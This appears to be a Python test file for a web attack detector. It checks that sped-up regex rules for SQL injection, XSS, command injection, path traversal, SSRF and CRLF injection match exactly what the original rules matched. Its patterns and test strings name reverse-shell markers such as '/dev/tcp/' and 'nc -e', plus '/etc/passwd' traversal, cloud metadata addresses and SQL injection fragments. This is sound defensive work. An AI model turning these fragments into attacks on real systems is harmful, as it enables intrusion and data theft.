"""Rule patterns are rewritten for speed without changing what they match."""

from __future__ import annotations

import fnmatch
import random
import re
from pathlib import Path

import pytest

from node import decoders, points, rules
from node.detectors import MODULES, crlf, ptrav, rce, sqli, ssrf, xss
from node.engine import Engine
from node.rules import (
    _LITERAL_FIRST,
    LITERALS_FOUND,
    NEAR_MIN,
    PRUNE_MIN,
    Rule,
    View,
    _behind,
    is_document,
    lines_around,
    literals_found,
    literals_looked_for,
    near_changes,
    required_literal,
    searchable,
)
from node.signatures import LONG_TEXT, Signatures
from node.types import AttackType, Request

DETECTION = Path(__file__).parent / "data" / "detection"

# Shapes the rules use: boundaries before words, before groups of words, groups followed
# by more pattern, nested groups, escaped signs and literals among the alternatives.
PATTERNS = [
    r"\binformation_schema\b|\bload_file\s*\(|@@version\b",
    r"\b(?:iex|iwr|irm)\s*[\s(]|\bcmd(?:\.exe)?\s*/[ck]\b|%comspec%",
    r"\b(?:a(?:b|c)|d)e|\bx",
    r"\b(?:php|phar|zip)://|\b(?:engine|extension)\s*=",
    r"\|\s*(?:ba|z)?sh\b|\bnc\b[^|;&\n]{0,40}\s-[a-z]*[ec]\b|/dev/tcp/",
    r"\bthis\s*\.\s*\w+\s*(?:==|!=)|;\s*return\s+(?:true|1)\b",
    # Look-behinds and small classes first: quotes inside words, dot segments.
    r"""(?<=[\w/.$])(?:''|"")|(?<=\w)['"](?=\w)|['"](?=\w+['"])""",
    r"\x00|%00|(?<=/)\./|/(?=/)|;(?=/)|(?<!a)[;|&]\s*x|[\\\$]\w",
    # Leading groups with no assertion before them, and optional ones (tried first).
    r"(?:\(\s*|['\"])(?:exec|id)\s*\(|\b(?:ba|z|da)?sh\s+-c\b|(?:x|\bcmd)?\.exe",
    r"\b(?:ba)?(?:sh|ps)\s*\||(?:nc|\|)?-e\b",
    # Groups repeated at least once, greedy and lazy; a class of control characters.
    r"(?:\$\{?[a-z_]\w{0,2}\}?){2,}|\b(?:a|b)+?c|(?:x|ab){1,3}d|[\r\n][ \t]*x",
    # Several assertions first: no method call, no definition, a word boundary.
    r"(?<![\w)\]]\.)(?<!->)(?<!def )\b(?:exec|id|sh)\s*\(|(?<!\.)\bthis\b",
]


def _texts(seed: int, count: int) -> list[str]:
    rng = random.Random(seed)
    pieces = [
        *"abcdehilmnoprstwxz_ 019;|&.(=/-\n\t'\"$\x00",
        "%00",
        "\\",
        "/./",
        "iex ",
        "cmd.exe /c",
        "information_schema",
        "load_file (",
        "@@version",
        "php://",
        "engine =",
        "| bash",
        "nc x -e",
        "/dev/tcp/",
        "this.a==",
        "; return true",
        "abe",
        "de",
        *("${", "}", "$x", "\r", "ab", "xd"),
    ]
    return ["".join(rng.choice(pieces) for _ in range(rng.randrange(1, 40))) for _ in range(count)]


@pytest.mark.parametrize("source", PATTERNS)
def test_rewritten_patterns_match_the_same_text_at_the_same_places(source: str) -> None:
    original = re.compile(source)
    rewritten = searchable(original)
    assert rewritten is not original
    for text in _texts(seed=len(source), count=3000):
        expected = [m.span() for m in original.finditer(text)]
        assert [m.span() for m in rewritten.finditer(text)] == expected, text


# SQL's tokenizer read a string one alternative per character before.
SQL_STRINGS_BEFORE = r"(?P<s>'(?:[^'\\]|\\.)*(?:'|$)|\"(?:[^\"\\]|\\.)*(?:\"|$)|`[^`]{0,64}(?:`|$))"


def test_sql_tokens_are_read_where_the_tokenizer_read_them_before() -> None:
    source = sqli._TOKEN.pattern
    start, end = source.index("|(?P<s>") + 1, source.index("|(?P<n>")
    before = re.compile(source[:start] + SQL_STRINGS_BEFORE + source[end:], sqli._TOKEN.flags)
    assert before.pattern != source
    rng = random.Random(9)
    pieces = [*"'\"\\`ab \n*/-#", '\\"', "\\'", "/*", "*/"]
    for _ in range(4000):
        text = "".join(rng.choice(pieces) for _ in range(rng.randrange(1, 16)))
        for pos in range(len(text)):
            expected, token = before.match(text, pos), sqli._TOKEN.match(text, pos)
            assert expected is not None and token is not None
            assert (token.span(), token.lastgroup) == (expected.span(), expected.lastgroup), text


def test_possessive_event_attributes_match_what_backtracking_ones_did() -> None:
    rule = next(rule for rule in xss.RULES if rule.id == 2003)
    assert rule.pattern is not None
    source = xss._KNOWN_EVENT
    before = re.compile(
        r"[\"'`][\s/]*(?:[\w+:.-]{1,40}[\s/]+){0,4}(?:(?:"
        + source
        + r"|formaction|srcdoc)\s*="
        + xss._NOT_CLEARED
        + r"|xlink:href\s*=\s*['\"]?\s*(?:[a-z][\w+.-]*:|//))|^\s*"
        + source
        + r"\s*="
        r"|^[\s/]+(?:[^\s/>=\"'<`]{1,40}(?:=[^\s<>]{0,200})?[\s/]+){0,4}"
        + source
        + r"="
        + r"|[\s/]"
        + source
        + r"=['\"]?[\s(]*(?:alert|prompt|confirm|eval|print)[\s)]*[(`]"
    )
    rng = random.Random(8)
    pieces = [*"\"'` /=\t\nab<+;()", "onclick", "onload", "x-y", "formaction", "xlink:href", "//"]
    pieces += ["alert", "(prompt)", "`"]
    for _ in range(20000):
        text = "".join(rng.choice(pieces) for _ in range(rng.randrange(1, 14)))
        expected = [m.span() for m in before.finditer(text)]
        assert [m.span() for m in rule.pattern.finditer(text)] == expected, text


@pytest.mark.parametrize(
    ("before", "after", "pieces"),
    [
        (
            r"(?<![\w?*-])(?!/\?(?:/\?)+(?![\w.?*/]))(?:/[\w.-]+)*"
            r"(?:/[\w.]*(?:\?|\w?\*\w)[\w.?*]*){2,}",
            rce.R_WILDCARDS.pattern,
            [*"/?*ab.-_ x", "/", "/", "?", "*", "usr", "bin"],
        ),
        (
            r"(?<![\w'\"])(['\"])[\w./+-]{1,40}\1([ \t]*\|)"
            r"(?=[ \t]*(['\"])[\w./+-]{1,40}\3[ \t]*(?:[|;,)\]>}\n]|$))",
            rce._LITERAL_UNION,
            [*"'\"|ab. ;)\n", "'x'", '"y"', " | "],
        ),
        (
            r"(?<![\w`]):[a-z][\w.+-]{0,30}(?::[a-z][\w.+-]{0,30})?:(?=`)",
            sqli._TEXT_ROLE,
            [*":`ab.+- x1", ":ref:", ":py:func:", "`x`"],
        ),
        (
            r"%0[ad](?:%0[ad])?[ \t]*(?:(?:"
            + crlf._HEADERS
            + r")[ \t]*:[ \t]*[^\s]|"
            + crlf._STATUS_LINE
            + r")|(?:%0d)?%0a(?:%0d)?%0a[ \t]*<[!a-z]",
            crlf._ENCODED_HEADER,
            [*"%0ad \t:<!xb", "%0a", "%0d", "location", "set-cookie", "http/1.1 200"],
        ),
        # (Its line break looked back at rather than taken, a part's delimiter line right
        # after another part's empty line is found too.)
        (
            r"(?:^|(?<=\n))(--[\w'()+,./:=?-]{1,70})[ \t]*\r?\n"
            r"((?:content-[\w-]{1,40}:[^\r\n]*\r?\n(?:[ \t][^\r\n]*\r?\n)*)+)\r?\n",
            rules._PART_HEAD,
            [*"-\n\r :xb", "--", "--b\n", "content-type: a\n", "content-id:", "\n\n"],
        ),
    ],
)
def test_patterns_sped_up_match_what_they_matched(
    before: str, after: re.Pattern[str] | None, pieces: list[str]
) -> None:
    """Patterns rewritten so that `re` skips to where they may start (a look-behind moved
    after the character it guards: rule 3013's wildcard paths, TypeScript's unions, roles)
    or gives nothing back (possessive runs): the same matches and groups as before."""
    assert after is not None
    old = re.compile(before, after.flags)
    rng = random.Random(17)
    for _ in range(30000):
        text = "".join(rng.choice(pieces) for _ in range(rng.randrange(1, 18)))
        expected = [(m.span(), m.groups()) for m in old.finditer(text)]
        assert [(m.span(), m.groups()) for m in after.finditer(text)] == expected, text


def test_settings_are_blanked_as_each_line_was_before() -> None:
    """`ssrf.settings_blanked` finds a setting's line from the line break before it (and
    one put before the text), where `^` had `re` try every character, and its name and
    value without giving them back: each line blanked as the pattern before blanked it."""
    before = re.compile(
        r"^[ \t]*(?:export[ \t]+)?([a-z_][\w.\[\]-]{0,60})[ \t]*[=:][ \t]*"
        r"(['\"]?)([^\s'\"]{1,300})\2[ \t]*$",
        re.MULTILINE,
    )

    metadata = ssrf.R_METADATA.pattern
    assert metadata is not None

    def blanked(line: re.Match[str]) -> str:
        value = line.group(3)
        if not ssrf._service_setting(line.group(1), value) or metadata.search(value):
            return line.group()
        return " " * len(line.group())

    pieces = [*"ab_.=: \t'\"\n-[]x/1", "export ", "http://h", "localhost", "host", "redis://h"]
    pieces += ["169.254.169.254", "db_host", "redis_host: localhost", "url=redis://h\n"]
    rng = random.Random(19)
    changed = 0
    for _ in range(30000):
        text = "".join(rng.choice(pieces) for _ in range(rng.randrange(1, 18)))
        expected = before.sub(blanked, text)
        assert ssrf.settings_blanked(text) == expected, text
        changed += expected != text
    assert changed > 100


def test_loopback_urls_in_code_or_a_sentence_are_told_as_reading_each_whole_did() -> None:
    """`ssrf._in_code` and `ssrf._in_sentence` pass each match once (a run of URLs or of
    literals read again for each of them was quadratic); they answer as the plain loops."""
    rule = next(rule for rule in ssrf.RULES if rule.id == 9002)
    assert rule.pattern is not None
    pattern = rule.pattern
    words_after = re.compile(r"\S*[ \t]+[a-z]{2,}\b(?![:/.=(@])")
    rng = random.Random(9)
    pieces = ["http://localhost/", "//127.0.0.1", "'", '"', "(", ")", ",", ";", " ", "\n"]
    pieces += ["x", "returns", "=", "f(", "a1"]
    for _ in range(20000):
        text = "".join(rng.choice(pieces) for _ in range(rng.randrange(1, 14)))
        literals = [m.span() for m in ssrf._CODE_LITERAL.finditer(text)]
        in_code = bool(literals) and all(
            any(start <= m.start() < end for start, end in literals) for m in pattern.finditer(text)
        )
        assert ssrf._in_code(text, rule) == in_code, text
        in_sentence = all(words_after.match(text, m.end()) for m in pattern.finditer(text))
        assert ssrf._in_sentence(text, rule) == in_sentence, text


def test_globs_match_targets_as_fnmatch_matches_them() -> None:
    rng = random.Random(10)
    pieces = [*"/?*.-ae1", "etc", "passwd", "bin", "pa", "sswd"]
    for _ in range(20000):
        glob = "".join(rng.choice(pieces) for _ in range(rng.randrange(1, 10)))
        for target in rce._GLOB_TARGETS[:8]:
            assert rce._glob_matches(glob, target) == fnmatch.fnmatchcase(target, glob), glob


def test_quotes_around_a_position_are_told_as_counting_each_line_anew_did() -> None:
    rng = random.Random(11)
    for _ in range(5000):
        text = "".join(rng.choice('ab "\n;') for _ in range(rng.randrange(1, 30)))
        quotes = rce._LineQuotes(text)
        for at in sorted(rng.sample(range(len(text)), min(len(text), 5))):
            start = text.rfind("\n", 0, at) + 1
            end = text.find("\n", at)
            end = len(text) if end < 0 else end
            expected = text.count('"', start, at) % 2 == 1 and text.find('"', at, end) >= 0
            assert quotes.around(at) == expected, (text, at)


def test_xml_attributes_are_read_as_the_pattern_they_replace_read_them() -> None:
    before = re.compile(r"""([^\s=/>]+)\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>]+))""")
    rng = random.Random(5)
    pieces = [*"ab=\"' \t/>x-", "on", "==", '""', "''", "a=", " = "]
    for _ in range(20000):
        text = "".join(rng.choice(pieces) for _ in range(rng.randrange(1, 14)))
        expected = [(m.span(), m.groups()) for m in before.finditer(text)]
        found = [
            (m.span(), (m.group(1), *m.groups()[2:]))
            for m in points._XML_ATTR.finditer(text)
            if m.group(2) is not None
        ]
        assert found == expected, text


def test_the_tag_pattern_reads_the_tags_the_backtracking_pattern_read() -> None:
    before = re.compile(r"</?[a-z][\w:-]*(?:\s[^<>]{0,400})?/?>", re.IGNORECASE)
    rng = random.Random(6)
    pieces = [*'<>/aB \t="ß-:', "x" * 399, "<script", "</", "/>"]
    for _ in range(20000):
        text = "".join(rng.choice(pieces) for _ in range(rng.randrange(0, 12)))
        expected = [m.span() for m in before.finditer(text)]
        assert [m.span() for m in decoders.TAG.finditer(text)] == expected, text


def test_glued_line_comments_are_spaced_as_a_pattern_would_space_them() -> None:
    # In a word that does not open with a comment, the first comment, of letters and
    # digits only: `1#x`, `-1--x`, not `-----`, `#a#b` nor `("#")`; with the lines after
    # it that are a `#` comment alone, a space each.
    before = re.compile(r"(?<!\S)(?!--|#)(\S(?:(?!--|#)\S)*)(?:--|#)\w*\n((?:#\S*\n)*)")
    rng = random.Random(4)
    pieces = [*'ab-#\n \t")', "--", "\r\n", "é", "\u3000"]
    for _ in range(20000):
        text = "".join(rng.choice(pieces) for _ in range(rng.randrange(1, 16)))
        spaced = before.sub(lambda m: m.group(1) + " " * (1 + m.group(2).count("\n")), text)
        expected = spaced if before.search(text) else None
        assert sqli.glued_comments_spaced(text) == expected, text


def test_a_long_text_is_read_again_only_where_glued_comments_join_its_lines() -> None:
    lines = [f"line {n} of a long document" for n in range(300)]
    lines[100:103] = ["1 union#x", "all#y", "select password from users"]
    lines[200] = "see https://example.com/page.html#usage"
    text = "\n".join(lines)
    assert len(text) >= decoders.DELTA_MIN
    runs = sqli.glued_comments_spaced(text, runs_only=True)
    assert runs == (
        "line 99 of a long document\n1 union all select password from users\n"
        "line 199 of a long document\n"
        "see https://example.com/page.html line 201 of a long document\n"
    )
    assert sqli.glued_comments_spaced("\n".join(lines[:100]), runs_only=True) is None
    request = Request("POST", "/notes", (("Content-Type", "text/plain"),), text.encode())
    assert [(h.type, h.rule) for h in Engine().scan(request)] == [(AttackType.SQLI, 1001)]


def test_a_comment_before_a_call_is_found_where_the_pattern_it_replaces_found_one() -> None:
    comment = rce._COMMENT
    before = re.compile(r"[\w)\]]\s*(?:" + comment + r")\s*\(|\(\s*(?:" + comment + r")")
    rng = random.Random(5)
    # Word characters and spaces beyond ASCII too: `\w` and `\s` are Unicode's.
    pieces = [*"x_)](#/*\n \t.=é²٣\u3000\xa0", "/*", "*/", "//", "exec", "system"]
    for _ in range(5000):
        text = "".join(rng.choice(pieces) for _ in range(rng.randrange(1, 24)))
        found = next(rce._comment_calls(text), None) is not None
        assert found == bool(before.search(text)), text


def test_commands_inside_lines_are_those_a_pattern_without_line_breaks_finds() -> None:
    separators = rce._SEP
    assert rce._COMMAND.pattern.startswith(separators) and "[;\\n\\r|&$<>`]" in separators
    inline = separators.replace("[;\\n\\r|&$<>`]", "[;|&$<>`]", 1)
    before = re.compile(inline + rce._COMMAND.pattern[len(separators) :])
    rng = random.Random(7)
    pieces = [*";|&$<>`\n\r ({./-", "$(", "${", "&&", "id", "cat ", "sudo ", "/bin/", "x"]
    for _ in range(5000):
        text = "".join(rng.choice(pieces) for _ in range(rng.randrange(1, 24)))
        found = [m.span() for m in rce._inline_commands(text)]
        assert found == [m.span() for m in before.finditer(text)], text


def test_a_long_text_loses_its_comments_only_around_the_calls_that_hold_one() -> None:
    module = "".join(f"value_{i} = compute({i})  # step {i}\n" for i in range(400))
    assert len(module) > NEAR_MIN
    assert rce._uncommented(module) is None  # comments, but none inside a call
    lines = module.split("\n")
    lines[200] = 'system/* hidden */("id")'
    code = rce._uncommented("\n".join(lines))
    assert code is not None and 'system("id")' in code
    assert len(code) < len(module) // 10  # the lines around the call, not the module
    assert "value_196" not in code and "value_197 = compute(197)  value_198" in code


def test_lines_around_places_come_in_runs_and_give_up_past_half_the_text() -> None:
    text = "\n".join(f"line {i}" for i in range(40))
    at = text.index("line 20")
    assert lines_around(text, [(at, at + 4)]) == ["\n".join(f"line {i}" for i in range(17, 24))]
    end = text.index("line 39")
    runs = lines_around(text, [(0, 1), (end, end + 1)])
    assert runs == ["line 0\nline 1\nline 2\nline 3", "line 36\nline 37\nline 38\nline 39"]
    everywhere = [(text.index(f"line {i}"), text.index(f"line {i}") + 1) for i in range(0, 40, 5)]
    assert lines_around(text, everywhere) is None


def test_a_boundary_moves_behind_the_first_literals_of_each_alternative() -> None:
    rewritten = searchable(re.compile(r"\b(?:iex|irm)\s|\bexec\b|%comspec%"))
    assert rewritten.pattern == r"iex(?<!\wiex)\s|irm(?<!\wirm)\s|exec(?<!\wexec)\b|%comspec%"


def test_every_leading_assertion_moves_behind_the_first_literals() -> None:
    rewritten = searchable(re.compile(r"(?<!\.)(?<!def )\b(?:exec|id)\("))
    assert rewritten.pattern == (
        r"exec\((?<!(?:\.)exec\()(?<!(?:def )exec\()(?<!\wexec\()"
        r"|id\((?<!(?:\.)id\()(?<!(?:def )id\()(?<!\wid\()"
    )


def test_a_look_behind_moves_behind_the_first_literals() -> None:
    rewritten = searchable(re.compile(r"""(?<=/)\./|(?<!\w)['"]x"""))
    assert rewritten.pattern == r"""\./(?<=(?:/)\./)|'x(?<!(?:\w)'x)|"x(?<!(?:\w)"x)"""


@pytest.mark.parametrize(
    "source",
    [
        r"(\w+)\s*=\s*\1",  # a group copied into alternatives would be renumbered
        r"\bexec|\s+id",  # an alternative without a literal first: no skip to gain
        r"\b(?:a|b)*c",  # a group that may be absent is no first character
    ],
)
def test_patterns_that_would_not_gain_are_left_alone(source: str) -> None:
    pattern = re.compile(source)
    assert searchable(pattern) is pattern


# SQLi's inline comment before it was read lazily.
INLINE_COMMENT_BEFORE = r"/\*(?!!)(?:[^*]|\*(?!/)){0,200}\*/"
# Patterns rewritten by hand to start with a class or a plain character (the originals,
# for comparison): each must substitute exactly what the original did.
REWRITTEN = [
    (
        ptrav._SEPARATORS,
        r"\\|0x5c|0x2f|%2f|%5c|\\u002f|\\u005c|%c0%af|%c1%9c|[\u2215\u2216\uff0f\uff3c\u2044\u29f5]",
        re.I,
    ),
    (ptrav._DOTS, r"0x2e|%2e|\\u002e", re.I),
    (decoders._STRAY_PERCENT_RUN, r"(?:%[A-Za-z](?![0-9a-fA-F])){2}", 0),
    (
        rce._CODE_SPAN,
        r"(?:^|(?<=[\s(\u3000-\u9fff\uac00-\ud7af\uff00-\uffef]))`[^`\n]{1,60}`"
        r"(?=[\s\u3000-\u9fff\uac00-\ud7af\uff00-\uffef]|[.,:!?)](?!\w)|$)",
        0,
    ),
    (
        sqli._SMART_QUOTES,
        "(?<![^\\W\\d_])[\u2018\u2019\u201b\u2032\u00b4\u02bc]"
        "|[\u2018\u2019\u201b\u2032\u00b4\u02bc](?![^\\W\\d_])",
        0,
    ),
]


@pytest.mark.parametrize(("pattern", "original", "flags"), REWRITTEN)
def test_hand_rewritten_patterns_replace_what_the_originals_did(
    pattern: re.Pattern[str], original: str, flags: int
) -> None:
    rng = random.Random(11)
    pieces = [
        *"ab:\t\n\r\x00\x0b\x0c\x1f\x7f \\/.%x0",
        "java\tscript:",
        "0x5c",
        "0x2e",
        "%2f",
        "%2e",
        "\\u002f",
        "%c0%af",
        "\u2215",
        "\uff0f",
        *("/*", "*/", "/*!", "**", "un", "ion", "sel", "ect", "sl", "eep", "--", "#"),
        *("require", "import", " from ", "(", "'", '"', "../", "x.", "_", "`", "`x`", "!"),
        *("\u2019", "\u00b4", "\u02bc", "1", "\u00e9", "\u3002", "\ub97c"),
    ]
    before = re.compile(original, flags)
    for _ in range(3000):
        text = "".join(rng.choice(pieces) for _ in range(rng.randrange(1, 30))).lower()
        assert pattern.sub("#", text) == before.sub("#", text), text


def test_module_paths_are_hidden_as_one_pattern_for_both_keywords_hid_them() -> None:
    """`require`, `import` and `export` are searched for apart, each a word `re` skips to
    (`i` and `e` were tried at every one of them)."""
    both = re.compile(
        r"(\brequire\s*\(\s*|\bimport\s*\(\s*|\b(?:import|export)\s[^;'\"\n]{0,200}?\bfrom\s+"
        r"|\bimport[ \t]+(?=['\"]))(['\"])"
        r"([^'\"<>\n]{0,500})\2"
    )
    rng = random.Random(13)
    pieces = ["require", "import", "export", " from ", "(", "'", '"', "../", "x", " ", "\n", ";"]
    pieces += ["a", "<"]
    for _ in range(5000):
        text = "".join(rng.choice(pieces) for _ in range(rng.randrange(1, 30)))
        apart = ptrav._REQUIRED_PATH.sub(ptrav._dots_hidden, text)
        for imported in ptrav._MODULE_PATHS:
            apart = imported.sub(ptrav._dots_hidden, apart)
        assert apart == both.sub(ptrav._dots_hidden, text), text


# Path traversal's normalisation before it dropped its noise in a pass per layer.
PATH_NOISE_BEFORE = r"\x00|%00|(?<=/)\./|/(?=/)|;(?=/)"


def test_a_path_loses_its_noise_in_one_pass_as_passes_until_none_was_left_did() -> None:
    noise = re.compile(PATH_NOISE_BEFORE)
    spaced = re.compile(r"(?<!\.)\.\.[ \t]+(?=/)")

    def until_none_left(text: str) -> str:
        text = ptrav._DOTS.sub(".", ptrav._SEPARATORS.sub("/", text))
        while True:
            folded = noise.sub("", text)
            folded = spaced.sub("..", folded)
            if folded == text:
                return text
            text = folded

    rng = random.Random(17)
    pieces = [*"/.;a \x00", "%00", "\\", "%2f", "..", "./", "%2e"]
    for _ in range(20000):
        text = "".join(rng.choice(pieces) for _ in range(rng.randrange(1, 16)))
        assert ptrav.normalize(text) == until_none_left(text), text
    # Past the three passes that stopped the loop: Tomcat's `;` as many times as one likes.
    assert ptrav.normalize("..;;;;;/etc/passwd") == "../etc/passwd"


def test_xss_drops_controls_as_its_one_pattern_with_a_look_ahead_did() -> None:
    # Runs of letters and gaps a colon ends, each read once (`xss._schemes_joined`), drop
    # what the look-ahead from each gap dropped, in linear time.
    look_ahead = re.compile(
        r"[\x00-\x0b\x0d-\x1f\x7f]"
        r"(?:(?<=[\x00-\x08\x0b\x0e-\x1f\x7f])|(?<=[a-z][\t\n\r])(?=[a-z\t\n\r]*:))"
    )
    rng = random.Random(6)
    pieces = [*"ab:\t\n\r\x00\x01\x0b\x0c\x0e\x1f\x7f <", "java\tscript:", "java\n\nscript:"]
    for _ in range(50000):
        text = "".join(rng.choices(pieces, k=rng.randrange(14)))
        expected = look_ahead.sub("", text).replace("\x0c", " ")
        assert xss.normalize(text) == expected or "+a" in text, repr(text)


# Perl source was one pattern, its `use` and `package` lines found with `^` of re.M.
PERL_SOURCE_BEFORE = (
    r"\bmy\s*(?:\(\s*)?[$@%][a-z_]\w*|\bsub\s+[a-z_]\w*\s*\{|\$self\s*->"
    r"|^[ \t]*(?:use\s+(?:strict|warnings|[a-z]\w*(?:::\w+)+)\b|package\s+[a-z]\w*(?:::\w+)*)"
    r"[^;\n]{0,200};"
)


def test_perl_source_is_marked_where_one_multiline_pattern_marked_it() -> None:
    before = re.compile(PERL_SOURCE_BEFORE, re.M)
    rng = random.Random(19)
    pieces = ["use ", "strict", "package ", "a::b", "my ", "$x", "sub ", "f", "{", ";", "\n", " "]
    pieces += ["\t", "$self", "->", "x"]
    for _ in range(5000):
        text = "".join(rng.choice(pieces) for _ in range(rng.randrange(1, 20)))
        assert rce._perl_source(text) == bool(before.search(text)), text


def test_commands_are_found_from_a_separator_class_as_from_their_alternatives() -> None:
    """`_COMMAND` opens with a class, the separator told by looking back at it: the same
    matches, substitutions and names as when its separators were alternatives and the
    substitution a group."""
    alternatives = r"(?:[;\n\r|]|&&?|(\$\(|\$\{(?=[ \t|])|<\(|>\(|`))"
    assert rce._COMMAND.pattern.startswith(rce._SEP)
    before = re.compile(alternatives + rce._COMMAND.pattern[len(rce._SEP) :])
    pieces = [*";|&$<>`(){} \t\n\r", "&&", "||", "$(", "${", "<(", ">(", "id", "ls -la", "cat "]
    pieces += ["/etc/passwd", "sleep 5", "x", "do ", "time ", "/bin/"]
    texts = _pieced(71, pieces, 14)
    found = 0
    for text in texts:
        now = [
            (m.span(), rce._substitution(text, m.start()), m.group(1), m.span(1))
            for m in rce._COMMAND.finditer(text)
        ]
        was = [(m.span(), m.group(1), m.group(2), m.span(2)) for m in before.finditer(text)]
        assert now == was, text
        found += len(was)
    assert found >= 1000


def test_backslashes_drop_as_they_did_where_no_drive_is_named() -> None:
    """And where one is, as when the path was kept as a group first in the pattern."""
    grouped = re.compile(r"(:(?<=\b[a-z]:)\\[\w.\\-]*)|\\(?=[a-z/.])")
    rng = random.Random(23)
    pieces = ["\\", "c:", ":", "a", "/", ".", "-", " ", "w"]
    for _ in range(5000):
        text = "".join(rng.choice(pieces) for _ in range(rng.randrange(1, 20)))
        dropped = rce._BACKSLASH.sub(rce._backslash_dropped, text)
        assert dropped == grouped.sub(r"\1", text), text
        if ":\\" not in text:
            assert rce._DROPPED_BACKSLASH.sub("", text) == dropped


def _spans(pattern: re.Pattern[str], text: str) -> list[tuple[int, int]]:
    return [m.span() for m in pattern.finditer(text)]


def _pieced(seed: int, pieces: list[str], longest: int = 24) -> list[str]:
    rng = random.Random(seed)
    return [
        "".join(rng.choice(pieces) for _ in range(rng.randrange(1, longest))) for _ in range(5000)
    ]


def test_command_names_grouped_by_first_letter_match_as_their_list_did() -> None:
    listed = re.compile(r"(?:" + rce._DISTINCT_NAMES + r")")
    grouped = re.compile(r"(?:" + rce._DISTINCT + r")")
    names = rce._DISTINCT_NAMES.replace("\\w+", "").replace("\\", "").split("|")
    pieces = [*names, *(name[:2] for name in names), "-", ".", "exe", "3", ".11", " ", ";"]
    for text in _pieced(29, pieces, 6):
        for at in range(len(text)):
            before, after = listed.match(text, at), grouped.match(text, at)
            assert (before and before.span()) == (after and after.span()), (text, at)


def test_patterns_made_to_skip_find_what_they_found() -> None:
    absolute = re.compile(r"(?:^|[\s;|&`(])/(?:usr/)?(?:local/)?s?bin/[a-z][\w.-]*\b")
    documentation = re.compile(
        r"^\s*\$\s+[a-z]|\[\s*-{1,2}[a-z]|\[[a-z_-]{4,}\]|\[[a-z_-]+\.\.\.\]"
        r"|<[a-z][\w-]*(?: [a-z][\w-]*){0,3}>"
    )
    home = re.compile(r"(?:(?<![\w~])~|\$\{?home\}?|%userprofile%)/(?=\.\w)([^\s'\"<>]{1,500})")
    chunk = re.compile(r"[A-Za-z0-9+/_-]{16,}={0,2}")
    for text in _pieced(31, [*"/ ;|&`(\tx-", "usr/", "local/", "bin/", "sbin/", "ls"], 12):
        found = rce._ABSOLUTE.search(text)
        was = absolute.search(text)
        assert (found and found.span()) == (was and (was.start() + was[0].index("/"), was.end()))
    for text in _pieced(41, [*"~/x $%{}'\t", "~/.", ".x", "home", "userprofile"], 12):
        assert _spans(ptrav._HOME_FILE, text) == _spans(home, text), text
    pieces = [*"/ ;|&`(\tx-.~$%=[]<>_", "usr/", "local/", "bin/", "sbin/", "ls", "$ "]
    pieces += ["{home}", "home", "%userprofile%", "--", "abc", "[-x]", "<a>", "[name]", "..."]
    pieces += ["<a b>", "<a b"]
    for text in _pieced(31, pieces):
        assert bool(documentation.search(text)) == bool(
            rce._DOCUMENTATION_PROMPT.match(text) or rce._DOCUMENTATION.search(text)
        ), text
    for text in _pieced(37, [*"aZ09+/_-=%\\ .", "abcdefgh", "=="], 40):
        assert _spans(decoders._BASE64_CHUNK, text) == _spans(chunk, text), text
    # A climb a text names, from its first two dots: the same spans, and the same told
    # located (a compiler's message) as when each alternative started at one dot.
    named = re.compile(
        r"\.(?<=[\w:,)][ \t]\.|[})]/\.)\.+/[^\s'\"<>]*"
        r"|(?P<located>\.(?<![^\s(\[]\.)\.+/[^\s'\"<>:]*:\d+(?::\d+)?(?=[:)\s,]|$))"
    )

    def climbs(pattern: re.Pattern[str], text: str) -> list[tuple[tuple[int, int], bool]]:
        return [(m.span(), m.group("located") is not None) for m in pattern.finditer(text)]

    texts = _pieced(61, [*"./ \t:,)}([x1\n", "..", "../", "a.c:", "12"], 20)
    for text in texts:
        assert climbs(ptrav._NAMED_CLIMB, text) == climbs(named, text), text
    assert sum(named.search(text) is not None for text in texts) >= 100
    # A string broken out of after a blank, the blank checked behind the quote.
    broken = re.compile(r"(?<!\S)" + rce._BROKEN_EXEC.pattern.replace(r"(?<!\S['\"])", "", 1))
    assert broken.pattern != "(?<!\\S)" + rce._BROKEN_EXEC.pattern
    rng = random.Random(53)
    parts = [
        ["", "x", " ", "\n", "x ", "'"],
        ["'", '"'],
        [";", " ; ", "", ";\n"],
        ["exec(", "system (", "os.popen(", "eval", "x("],
        ["'id'", '"ls"', "'a\"", "''", ""],
        [")", " )", ""],
        ["", ";", "//", " #", " x", "\n"],
    ]
    texts = ["".join(rng.choice(part) for part in parts * rng.randrange(1, 3)) for _ in range(3000)]
    for text in texts:
        assert _spans(rce._BROKEN_EXEC, text) == _spans(broken, text), text
    assert sum(broken.search(text) is not None for text in texts) >= 20
    # troff's cased dot, found from the separator before it: the dot is each match's end.
    cased_dot = re.compile(r"(?<=[;\n])[ \t]*\.(?=[a-z]*[A-Z])")
    for text in _pieced(43, [*";\n \t.aZ/\\", "SH", "sh"], 30):
        ends = [m.end() for m in rce._CASED_DOT.finditer(text)]
        assert ends == [m.end() for m in cased_dot.finditer(text)], text


def test_long_texts_find_the_tokens_the_whole_automaton_finds() -> None:
    """In a long text single characters are looked for alone, not by the automaton: the
    tokens found must be the same. The literals of the rules' alternatives are found too."""
    signatures = Signatures(MODULES)
    payloads = _payloads()
    rng = random.Random(5)
    for _ in range(40):
        pieces: list[str] = []
        while sum(map(len, pieces)) < LONG_TEXT:
            pieces.append(rng.choice(payloads) if rng.random() < 0.3 else "plain words ")
        text = "".join(pieces).lower()
        whole = {pair for _, pair in signatures._automaton.iter("\0" + text + "\0")}
        found = signatures._matches(text)
        assert {pair for pair in found if pair[1]} == whole
        # And the literals of the rules' alternatives, which route nowhere.
        present = {token for token, _ in found}
        assert LITERALS_FOUND in present
        for literal in literals_looked_for():
            assert (literal in present) == (literal in text), literal


def _payload_lines(
    rng: random.Random, payloads: list[str], plain: str, fewest: int, most: int
) -> list[str]:
    """Between `fewest` and `most` lines, one in ten a payload, the others `plain` given
    their number."""
    return [
        rng.choice(payloads) if rng.random() < 0.1 else plain.format(n)
        for n in range(rng.randrange(fewest, most))
    ]


def test_a_derived_text_has_no_token_that_its_value_and_lines_near_its_changes_lack() -> None:
    """A detector's rewriting of a long value is looked at again only near its changes:
    every token of the rewritten text must be found in the value or in those lines, for
    edits of any kind (lines changed, removed, added, joined, split) and tokens that span
    line breaks ("\\nalter\\n")."""
    automaton = Signatures(MODULES)._automaton

    def tokens(text: str) -> set[str]:
        return {token for _, (token, _) in automaton.iter("\0" + text + "\0")}

    payloads = [*_payloads(), "\nalter\n", "x\n", "\nls", "or\n"]
    rng = random.Random(11)
    looked_again = 0
